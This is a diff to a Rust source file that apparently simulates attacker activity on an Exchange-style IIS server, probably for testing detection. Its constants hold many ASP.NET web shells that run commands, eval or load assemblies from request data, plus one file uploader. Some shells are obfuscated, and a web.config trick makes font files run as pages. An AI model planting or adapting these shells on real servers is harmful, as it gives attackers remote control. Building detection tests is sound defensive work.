@@ -1,7 +1,7 @@
 //! What the last set plants: places, texts that hide, and places that hide.
 
 use crate::attack::odd_page::OddPage;
-use crate::attack::{Below, Page, Place};
+use crate::attack::{Below, Place};
 use crate::moment::Moment;
 use crate::server::Encoding;
 use crate::technique::Technique;
@@ -36,55 +36,44 @@ pub(super) const WRITTEN: &str = "<%@ Page Language=\"JSc¦ript\"%><scr¦ipt lan
 /// The page that the voice service's worker writes.
 pub(super) const BY_VOICE: &str = "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.IO\" %><form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"/><input type=\"submit\"/></form><%if(Req¦uest.Files.Count>0){Req¦uest.Files[0].Save¦As(Path.Combine(Req¦uest[\"to\"],Path.GetFileName(Req¦uest.Files[0].FileName)));Response.Write(\"ok\");}%>";
 
-const fn odd(place: Place, name: &'static str, how: &'static str, text: &'static str) -> OddPage {
-    OddPage {
-        page: Page { place, name },
-        text,
-        how,
-        technique: Technique::ShellFile,
-        dated: None,
-        encoding: Encoding::Plain,
-    }
-}
-
 pub(super) const ODD_CODE: [OddPage; 9] = [
-    odd(
+    OddPage::new(
         CLIENT,
         "web_resource.aspx",
         "JScript whose sentence comes in base64",
         "<%@ Page Language=\"Jscript\" validateRequest=\"false\" %><%try{ev¦al(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.From¦Base64String(Req¦uest.Form[\"wr\"])),\"un\"+\"sa\"+\"fe\");}catch(e){}%>",
     ),
-    odd(
+    OddPage::new(
         SIGN_IN,
         "errorNO.aspx",
         "JScript that puts its words together out of parts",
         "<%@ Page Language=\"JScript\"%><%var q=[\"Req\",\"uest\"].join(\"\");var m=\"unXsaXfe\".split(\"X\").join(\"\");ev¦al(System.Web.HttpContext.Current[q].Item[\"no\"],m);%>",
     ),
-    odd(
+    OddPage::new(
         SYSTEM_WEB,
         "session.aspx",
         "C# that decrypts an assembly with a key of the session and calls it by name",
         "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Reflection\" %><%Session.Add(\"k\",\"9d4e1e23bd5b7270\");byte[] k=Encoding.Default.GetBytes(Session[0]+\"\"),c=Req¦uest.Binary¦Read(Req¦uest.ContentLength);var a=(Assem¦bly)typeof(Assem¦bly).InvokeMember(\"Lo\"+\"ad\",BindingFlags.InvokeMethod|BindingFlags.Static|BindingFlags.Public,null,null,new object[]{new System.Security.Cryptography.AesManaged().CreateDecryptor(k,k).TransformFinalBlock(c,0,c.Length)});a.CreateInstance(\"U\").Equals(this);%>",
     ),
-    odd(
+    OddPage::new(
         SIGN_IN,
         "logonTimeout.aspx",
         "a form with boxes for a password, a program and its arguments",
         "<%@ Page Language=\"C#\" Debug=\"true\" Trace=\"false\" %>\r\n<%@ Import Namespace=\"System.Diagnostics\" %>\r\n<scr¦ipt runat=\"ser¦ver\">\r\nprotected void Go(object sender, EventArgs e)\r\n{\r\n  if (Pass.Text != \"tmz-2021\") return;\r\n  var i = new Pro¦cess¦StartInfo(Environment.GetEnvironmentVariable(\"ComSpec\"), \"/c \" + Line.Text);\r\n  i.RedirectStandardOutput = true; i.UseShell¦Execute = false;\r\n  using (var p = Pro¦cess.St¦art(i)) Out.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\r\n}\r\n</scr¦ipt>\r\n<html><body><form runat=\"server\"><asp:TextBox id=\"Pass\" runat=\"server\" TextMode=\"Password\"/><asp:TextBox id=\"Line\" runat=\"server\" Width=\"400\"/><asp:Button runat=\"server\" Text=\"OK\" OnClick=\"Go\"/><pre><asp:Literal id=\"Out\" runat=\"server\"/></pre></form></body></html>\r\n",
     ),
-    odd(
+    OddPage::new(
         CLIENT,
         "checkin.aspx",
         "VB that makes its shell by the server object",
         "<%@ Page Language=\"VB\" %><scr¦ipt runat=\"ser¦ver\">\r\nSub Page_Load(ByVal o As Object, ByVal e As EventArgs)\r\n  If Req¦uest.QueryString(\"id\") <> \"\" Then\r\n    Dim w As Object = Server.CreateObject(\"WScr¦ipt.Sh¦ell\")\r\n    w.R¦un(\"cmd /c \" & Req¦uest.QueryString(\"id\") & \" > \" & Server.MapPath(\"checkin.log\"), 0, True)\r\n  End If\r\nEnd Sub\r\n</scr¦ipt>OK",
     ),
-    odd(
+    OddPage::new(
         ADMIN_AUTH,
         "Language.aspx",
         "a pipeline of a hosted PowerShell",
         "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"System.Management.Automation,Version=3.0.0.0,Culture=neutral,PublicKeyToken=31BF3856AD364E35\" %><%var r=System.Management.Automation.Runspaces.Runspace¦Factory.CreateRunspace();r.Open();var p=r.CreatePipeline();p.Commands.Add¦Script(Req¦uest[\"lcid\"]);p.Commands.Add(\"Out-String\");foreach(var o in p.Inv¦oke())Response.Write(o);r.Close();%>",
     ),
-    odd(
+    OddPage::new(
         SYSTEM_WEB,
         "trace.aspx",
         "C# that takes each byte of what is sent by a key, and starts it",
@@ -92,14 +81,14 @@ pub(super) const ODD_CODE: [OddPage; 9] = [
     ),
     OddPage {
         encoding: Encoding::Wide,
-        ..odd(
+        ..OddPage::new(
             CLIENT,
             "default_en.aspx",
             "stored as UTF-16, with its words apart over lines",
             "<%@ Page\r\n Language\r\n =\r\n \"Jscript\"\r\n%>\r\n<%\r\nev¦al\r\n(\r\nReq¦uest\r\n[\r\n\"en\"\r\n]\r\n,\r\n\"uns¦afe\"\r\n)\r\n;\r\n%>\r\n",
         )
     },
-    odd(
+    OddPage::new(
         SIGN_IN,
         "keepalive.ashx",
         "a handler that fetches a file from elsewhere to a folder",
@@ -110,7 +99,7 @@ pub(super) const ODD_CODE: [OddPage; 9] = [
 const ONE_LINE: &str = "<scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){ev¦al(Req¦uest[\"ref\"],\"uns¦afe\");}</scr¦ipt>";
 
 pub(super) const ODD_PLACES: [OddPage; 8] = [
-    odd(
+    OddPage::new(
         UPDATE,
         "default.aspx",
         "in a new folder below one of the engine's",
@@ -118,21 +107,26 @@ pub(super) const ODD_PLACES: [OddPage; 8] = [
     ),
     OddPage {
         dated: Some(Moment::day(2019, 11, 12).clock(9, 41, 7)),
-        ..odd(THEMES, "olk_logo_white.aspx", "among pictures, with the very time of the files beside it", ONE_LINE)
+        ..OddPage::new(
+            THEMES,
+            "olk_logo_white.aspx",
+            "among pictures, with the very time of the files beside it",
+            ONE_LINE,
+        )
     },
-    odd(
+    OddPage::new(
         AUTODISCOVER,
         "RedirSuiteServiceProxy.aspx",
         "a name of the product in another of its folders",
         "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Item[\"suite\"],\"uns¦afe\");%>",
     ),
-    odd(
+    OddPage::new(
         SERVICES,
         "Exchange2.asmx",
         "beside the web services, with nearly the name of theirs",
         "<%@ WebService Language=\"C#\" Class=\"Exchange2\" %>\r\npublic class Exchange2:System.Web.Services.WebService{[System.Web.Services.WebMethod]public string Ping(string host){var p=System.Diagnostics.Pro¦cess.St¦art(new System.Diagnostics.Pro¦cessStartInfo(\"cmd.exe\",\"/c ping \"+host){UseShellExecute=false,RedirectStandardOutput=true});return p.StandardOutput.ReadToEnd();}}\r\n",
     ),
-    odd(
+    OddPage::new(
         ROOT,
         "iisstart.aspx",
         "in the site's own folder, after its start page",
@@ -140,20 +134,20 @@ pub(super) const ODD_PLACES: [OddPage; 8] = [
     ),
     OddPage {
         technique: Technique::HandlerChange,
-        ..odd(
+        ..OddPage::new(
             FONTS,
             "web.config",
             "fonts are run as pages in this folder",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n  <system.webServer>\r\n    <handlers>\r\n      <add name=\"woff\" path=\"*.woff\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" resourceType=\"Unspecified\" />\r\n    </handlers>\r\n  </system.webServer>\r\n  <system.web>\r\n    <compilation>\r\n      <buildProviders>\r\n        <add extension=\".woff\" type=\"System.Web.Compilation.PageBuildProvider\" />\r\n      </buildProviders>\r\n    </compilation>\r\n  </system.web>\r\n</configuration>\r\n",
         )
     },
-    odd(
+    OddPage::new(
         FONTS,
         "segoe-light.woff",
         "the font that is run as a page",
         "wOFF<%@ Page Language=\"C#\" %><%if(Req¦uest[\"w\"]!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"w\"]);%>",
     ),
-    odd(
+    OddPage::new(
         ADMIN_AUTH,
         "TimeoutLogout.aspx.bak.aspx",
         "a copy of a page of the product, as if for safe keeping, with a script before it",
